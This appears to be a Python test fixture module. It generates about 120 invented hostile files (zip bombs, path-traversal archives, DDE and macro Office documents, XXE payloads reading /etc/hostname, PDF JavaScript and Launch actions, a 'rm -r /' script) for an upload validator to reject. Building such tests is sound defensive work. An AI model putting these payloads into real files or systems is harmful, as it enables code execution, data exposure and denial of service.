"""Invented hostile files, which must be refused, each for its own reason. All made here."""

import random
import struct
from collections.abc import Callable

from tests.files import packages as p
from tests.files.packages import HEAD, excel, open_document, relations, sheet, word, word_body, zipped
from tests.files.pages import chunk, jpeg, pdf, png, stream
from tests.files.samples import PACKED_OBJECTS, Sample, deflated, with_link

NOISE = random.Random(7).randbytes(4_000)
ZEROS = bytes(20_000_000)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def _entities(kind: str) -> bytes:
    kinds = {
        "laughs": '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>',
        "file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
        "net": '<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>',
        "parameter": '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://example.org/b">%b;]><a/>',
    }
    return kinds[kind].encode()


def _word_relation(kind: str, target: str) -> bytes:
    return zipped(word({"word/_rels/settings.xml.rels": relations((kind, target, True))}))


def _field(command: str) -> bytes:
    half = len(command) // 2
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (command[:half], command[half:]))
    return zipped(word(body=word_body(f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>')))


def _odt(inside: str) -> bytes:
    return zipped(open_document(inside=inside))


def _lying_bomb() -> bytes:
    """A part that unpacks to 20 MB and is said to hold 100 bytes."""
    content = zipped({"word/a.xml": ZEROS, **word()})
    return p.in_directory(content, 24, "<L", 100)


def _overlap() -> bytes:
    """Two names in the directory for the same packed bytes."""
    content = zipped(word({"word/a.xml": b"<a/>", "word/b.xml": b"<b/>"}))
    return p.in_directory(content, 42, "<L", content.index(b"word/a.xml") - 30, entry=4)


def _locked() -> bytes:
    content = zipped(word())
    return p.in_directory(content, 8, "<H", 0x1)


def _renamed_inside() -> bytes:
    """One name in the directory, another before the part itself."""
    content = zipped(word())
    return content.replace(b"word/document.xml", b"word/documens.xml", 1)


def _between() -> bytes:
    """200 bytes between the parts and the directory."""
    content = zipped(word())
    at = struct.unpack("<L", content[-6:-2])[0]
    out = content[:at] + NOISE[:200] + content[at:]
    return out[:-6] + struct.pack("<L", at + 200) + out[-2:]


def bad(code: str, title: str, name: str, make: Callable[[], bytes]) -> Sample:
    return Sample(title, name, make, code=code)


_DOC, _XLS, _PDF = "plan.docx", "visits.xlsx", "plan.pdf"

HOSTILE: tuple[Sample, ...] = (
    # what it is
    bad("empty", "nothing at all", "a.txt", lambda: b""),
    bad("too-large", "26 MB of text", "a.txt", lambda: b"a line of text\n" * 1_800_000),
    bad("no-ending", "no ending", "plan", lambda: b"text"),
    bad("type-not-taken", "a web page", "plan.html", lambda: b"<p>"),
    bad("type-not-taken", "a drawing", "plan.svg", lambda: b"<svg/>"),
    bad("type-not-taken", "a program by name", "plan.pdf.exe", lambda: b"MZ"),
    bad("old-office", "an old Word file", "plan.doc", lambda: OLE),
    bad("old-office", "an old Word file called new", _DOC, lambda: OLE),
    bad("ending-differs", "a PDF called text", "plan.txt", pdf),
    bad("ending-differs", "a text called PDF", _PDF, lambda: b"text"),
    bad("ending-differs", "a Word file called Excel", _XLS, lambda: zipped(word())),
    bad("ending-differs", "an OpenDocument text called spreadsheet", "v.ods", lambda: zipped(open_document())),
    bad("ending-differs", "any zip called Word", _DOC, lambda: zipped({"a.xml": b"<a/>"})),
    bad("ending-differs", "a web page called text", "a.txt", lambda: b"\n<!DOCTYPE html><script>1</script>"),
    bad("ending-differs", "a PNG called JPEG", "a.jpg", png),
    bad("program", "a program called text", "a.txt", lambda: b"MZ\x90\x00"),
    bad("program", "a program called Word", _DOC, lambda: b"\x7fELF" + bytes(99)),
    bad("program", "a shell script called text", "a.txt", lambda: b"#!/bin/sh\nrm -r /\n"),
    # zip
    bad("bomb", "20 MB of nothing", _DOC, lambda: zipped(word({"word/media/a.png": ZEROS}))),
    bad("bomb", "many middling parts", _DOC, lambda: zipped(word({f"word/a{n}.xml": NOISE * 2_500 for n in range(8)}))),
    bad("bomb", "a part larger than it says", _DOC, _lying_bomb),
    bad("too-many-parts", "2,500 parts", _DOC, lambda: p.crowded(2_500)),
    bad("too-many-parts", "a count that lies", _DOC, lambda: zipped(word())[:-12] + b"\xff\xff" + zipped(word())[-10:]),
    bad("part-name", "a part above the folder", _DOC, lambda: zipped(word({"../../a.xml": b"<a/>"}))),
    bad("part-name", "a part at the root", _DOC, lambda: zipped(word({"/etc/a.xml": b"<a/>"}))),
    bad("part-name", "a part on a drive", _DOC, lambda: zipped(word({"C:\\a.xml": b"<a/>"}))),
    bad("part-name", "a part with a hidden letter", _DOC, lambda: zipped(word({"word/a\u202elmx.xml": b"<a/>"}))),
    bad("part-name", "two names for one part", _DOC, _renamed_inside),
    bad("part-twice", "the document twice", _DOC, lambda: p.with_twin(word(), "word/document.xml")),
    bad("part-twice", "the document twice, in capitals", _DOC, lambda: p.with_twin(word(), "WORD/Document.xml")),
    bad("overlapping-parts", "two names for the same bytes", _DOC, _overlap),
    bad("password", "a locked zip", _DOC, _locked),
    bad("password", "a locked Word file", _DOC, lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    bad("packing", "an unusual packing", _DOC, lambda: p.in_directory(zipped(word()), 10, "<H", 12)),
    bad(
        "hidden-bytes", "something before the zip", _DOC, lambda: b"PK\x03\x04" + NOISE + p.moved(zipped(word()), 4_004)
    ),
    bad("hidden-bytes", "something behind the zip", _DOC, lambda: zipped(word()) + NOISE[:99]),
    bad("hidden-bytes", "something between the parts", _DOC, _between),
    bad("nested-archive", "a zip in the zip", _DOC, lambda: zipped(word({"word/a.zip": zipped(word())}))),
    bad("nested-archive", "a zip called picture", _DOC, lambda: zipped(word({"word/media/a.png": zipped(word())}))),
    bad("damaged", "cut short", _DOC, lambda: zipped(word())[:-30]),
    bad("damaged", "a wrong checksum", _DOC, lambda: p.in_directory(zipped(word()), 16, "<L", 1)),
    bad("damaged", "XML that does not end", _DOC, lambda: zipped(word(body=b"<a><b></a>"))),
    bad("damaged", "noise", _DOC, lambda: b"PK\x03\x04" + NOISE),
    # office
    bad("macros", "macros", _DOC, lambda: zipped(word({"word/vbaProject.bin": OLE}))),
    bad("macros", "macros by the ending", "plan.docm", lambda: zipped(word())),
    bad("macros", "macros by the content type", _DOC, lambda: zipped(p.macro_word())),
    bad("macros", "old macro sheets", _XLS, lambda: zipped(excel({"xl/macrosheets/sheet1.xml": sheet()}))),
    bad(
        "macros",
        "macros in OpenDocument",
        "a.odt",
        lambda: zipped(open_document(extra={"Basic/Standard/M.xml": b"<a/>"})),
    ),
    bad("macros", "a listener in OpenDocument", "a.odt", lambda: _odt('<script:event-listener xlink:href="vnd.x"/>')),
    bad("active-controls", "ActiveX", _DOC, lambda: zipped(word({"word/activeX/activeX1.xml": b"<a/>"}))),
    bad("active-controls", "a control in the text", _DOC, lambda: zipped(word(body=word_body("<w:control/>")))),
    bad("embedded", "a workbook inside", _DOC, lambda: zipped(word({"word/embeddings/a.xlsx": zipped(excel())}))),
    bad("embedded", "an object behind a picture's name", _DOC, lambda: zipped(word({"word/media/a.png": OLE}))),
    bad("embedded", "a web page as a chunk", _DOC, lambda: zipped(word({"word/afchunk.mht": b"x"}))),
    bad("embedded", "an OLE object in OpenDocument", "a.odt", lambda: _odt("<draw:object-ole/>")),
    bad("program", "a program inside", _DOC, lambda: zipped(word({"word/media/a.png": b"MZ" + NOISE}))),
    bad("unknown-part", "a part of no kind", _DOC, lambda: zipped(word({"word/run.cmd": b"x"}))),
    bad(
        "external",
        "a template from elsewhere",
        _DOC,
        lambda: _word_relation("attachedTemplate", "http://example.org/t.dotm"),
    ),
    bad("external", "a picture from elsewhere", _DOC, lambda: _word_relation("image", "http://example.org/a.png")),
    bad("external", "a frame from a share", _DOC, lambda: _word_relation("frame", "\\\\example.org\\a")),
    bad(
        "external",
        "an object from elsewhere",
        _XLS,
        lambda: zipped(excel({"xl/externalLinks/externalLink1.xml": b"<a/>"})),
    ),
    bad("external", "a link that runs", _DOC, lambda: zipped(with_link("javascript:alert(1)"))),
    bad(
        "external",
        "a picture from elsewhere in ODT",
        "a.odt",
        lambda: _odt('<draw:image xlink:href="https://example.org/a.png"/>'),
    ),
    bad("embedded", "an OLE relation", _DOC, lambda: _word_relation("oleObject", "http://example.org/a")),
    bad("external-data", "a data connection", _XLS, lambda: zipped(excel({"xl/connections.xml": b"<a/>"}))),
    bad("field-command", "DDE cut in two", _DOC, lambda: _field('DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"')),
    bad(
        "field-command",
        "a simple field",
        _DOC,
        lambda: zipped(word(body=word_body('<w:fldSimple w:instr="DDE a b"/>'))),
    ),
    bad("field-command", "a text from elsewhere", _DOC, lambda: _field("INCLUDETEXT http://example.org/a")),
    bad(
        "field-command",
        "a formula that calls out",
        _XLS,
        lambda: zipped(excel(cell='<f>WEBSERVICE("http://example.org")</f>')),
    ),
    bad(
        "field-command", "a formula that starts a program", _XLS, lambda: zipped(excel(cell="<f>cmd|'/c calc'!A1</f>"))
    ),
    bad("field-command", "DDE in OpenDocument", "a.odt", lambda: _odt("<text:dde-connection-decl/>")),
    bad(
        "picture-script",
        "a script in a drawing",
        _DOC,
        lambda: zipped(word({"word/media/a.svg": b"<svg><script/></svg>"})),
    ),
    # XML
    bad("xml-entities", "entities that multiply", _DOC, lambda: zipped(word(body=_entities("laughs")))),
    bad("xml-entities", "an entity that reads a file", _DOC, lambda: zipped(word(body=_entities("file")))),
    bad(
        "xml-entities",
        "a document type from elsewhere",
        _XLS,
        lambda: zipped(excel({"docProps/app.xml": _entities("net")})),
    ),
    bad(
        "xml-entities",
        "entities in OpenDocument",
        "a.odt",
        lambda: zipped(open_document(extra={"meta.xml": _entities("parameter")})),
    ),
    bad(
        "xml-entities",
        "a document type in a relation",
        _DOC,
        lambda: zipped({**word(), "_rels/.rels": _entities("net")}),
    ),
    bad("xml-depth", "1,000 levels", _DOC, lambda: zipped(word(body=b"<a>" * 1_000 + b"</a>" * 1_000))),
    bad(
        "xml-token",
        "an endless tag",
        _DOC,
        lambda: zipped(word(body=HEAD + b'<a b="' + NOISE.hex().encode() * 300 + b'"/>')),
    ),
    # PDF
    bad("pdf-script", "a script", _PDF, lambda: pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    bad("pdf-script", "a script in other letters", _PDF, lambda: pdf(b"<< /S /J#61vaScript /JS (1) >>")),
    bad(
        "pdf-script",
        "a script in a packed object",
        _PDF,
        lambda: pdf(stream(b"7 0 << /S /JavaScript >>", PACKED_OBJECTS)),
    ),
    bad("pdf-launch", "a program", _PDF, lambda: pdf(b"<< /S /Launch /F (calc.exe) >>")),
    bad(
        "pdf-open-action",
        "an address on opening",
        _PDF,
        lambda: pdf(catalogue=b"/OpenAction << /S /URI /URI (http://example.org) >>"),
    ),
    bad(
        "pdf-open-action",
        "a packed action that leads out",
        _PDF,
        lambda: pdf(stream(b"7 0 << /S /URI >>", PACKED_OBJECTS), catalogue=b"/OpenAction 7 0 R"),
    ),
    bad("pdf-open-action", "an action elsewhere", _PDF, lambda: pdf(b"<< /S /URI >>", catalogue=b"/OpenAction 4 0 R")),
    bad("pdf-open-action", "an action in other letters", _PDF, lambda: pdf(catalogue=b"/Open#41ction << /S /URI >>")),
    bad("pdf-embedded", "a file inside", _PDF, lambda: pdf(stream(b"x", b"/Type /EmbeddedFile /Filter /FlateDecode"))),
    bad("pdf-embedded", "an attachment", _PDF, lambda: pdf(b"<< /Subtype /FileAttachment >>")),
    bad("password", "a locked PDF", _PDF, lambda: pdf(trailer=b"/Encrypt 4 0 R")),
    bad(
        "pdf-filters",
        "packed twice",
        _PDF,
        lambda: pdf(stream(deflated(ZEROS), b"/Filter [/FlateDecode /FlateDecode]")),
    ),
    bad(
        "pdf-filters",
        "packed thrice",
        _PDF,
        lambda: pdf(stream(b"", b"/Filter [/ASCIIHexDecode /ASCII85Decode /FlateDecode]")),
    ),
    bad(
        "pdf-hidden-objects",
        "objects packed oddly",
        _PDF,
        lambda: pdf(stream(b"", b"/Type /ObjStm /Filter /LZWDecode")),
    ),
    bad("bomb", "a page of 90 MB", _PDF, lambda: pdf(stream(bytes(90_000_000)))),
    bad(
        "picture-size",
        "a picture of 10 billion points",
        _PDF,
        lambda: pdf(stream(b"", b"/Subtype /Image /Width 100000 /Height 100000")),
    ),
    bad("pdf-form", "a form that sends", _PDF, lambda: pdf(b"<< /S /SubmitForm /F (http://example.org) >>")),
    bad("pdf-form", "a form of the other kind", _PDF, lambda: pdf(b"<< /XFA 5 0 R >>")),
    bad("pdf-media", "a film", _PDF, lambda: pdf(b"<< /Subtype /RichMedia >>")),
    bad("pdf-external", "another file", _PDF, lambda: pdf(b"<< /S /GoToR /F (a.pdf) >>")),
    bad("two-kinds", "a zip behind a PDF", _PDF, lambda: pdf() + zipped(word())),
    bad("hidden-bytes", "something behind a PDF", _PDF, lambda: pdf(behind=NOISE)),
    bad("damaged", "a PDF cut short", _PDF, lambda: pdf()[:-12]),
    # pictures
    bad("picture-size", "a PNG of 4 billion points", "a.png", lambda: png(width=65_000, height=65_000)),
    bad("picture-size", "a JPEG of 4 billion points", "a.jpg", lambda: jpeg(width=65_000, height=65_000)),
    bad("two-kinds", "a zip behind a PNG", "a.png", lambda: png(behind=zipped(word()))),
    bad("two-kinds", "a web page behind a JPEG", "a.jpg", lambda: jpeg(behind=b"<script>1</script>")),
    bad("hidden-bytes", "something behind a PNG", "a.png", lambda: png(behind=NOISE[:99])),
    bad("hidden-bytes", "something behind a JPEG", "a.jpg", lambda: jpeg(behind=b"secret")),
    bad("bomb", "a text that swells in a PNG", "a.png", lambda: png(chunk(b"zTXt", b"a\x00\x00" + deflated(ZEROS)))),
    bad("damaged", "a PNG cut short", "a.png", lambda: png()[:-20]),
    bad("damaged", "a JPEG without a picture", "a.jpg", lambda: jpeg(has_frame=False)),
    bad("damaged", "a JPEG cut short", "a.jpg", lambda: jpeg()[:-2]),
    # texts
    bad("not-text", "a null byte", "a.csv", lambda: b"a,b\n1,\x002\n"),
    bad("not-text", "bytes that are no text", "a.txt", lambda: b"\x01\x02\x03"),
    bad("text-encoding", "a text of two bytes a letter cut in one", "a.txt", lambda: "text".encode("utf-16")[:-1]),
    bad("text-encoding", "a text of four bytes a letter", "a.txt", lambda: "text".encode("utf-32")),
    bad("not-text", "a null in two bytes a letter", "a.tsv", lambda: "a\tb\n1\t\0\n".encode("utf-16")),
    bad("ending-differs", "a web page in two bytes a letter", "a.txt", lambda: "<html><p>".encode("utf-16")),
    bad("text-encoding", "a text of no code", "a.txt", lambda: b"a \x81\x8d\n"),
    bad("text-line", "a line of 3 MB", "a.csv", lambda: b"1," * 1_500_000),
)
